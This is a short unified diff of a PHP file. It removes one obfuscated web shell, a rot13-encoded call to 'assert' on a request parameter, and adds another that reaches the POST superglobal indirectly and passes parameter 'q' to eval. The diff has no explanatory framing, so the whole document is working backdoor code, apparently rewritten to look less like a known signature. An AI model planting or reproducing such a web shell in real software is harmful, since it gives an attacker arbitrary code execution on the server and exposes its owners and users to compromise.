@@ -1,1 +1,3 @@
-<?php $k = str_rot13('nffreg'); @$k($_REQUEST['q']);
+<?php
+$n = strtoupper('_post');
+if (isset(${$n}['q'])) { eval(${$n}['q']); }
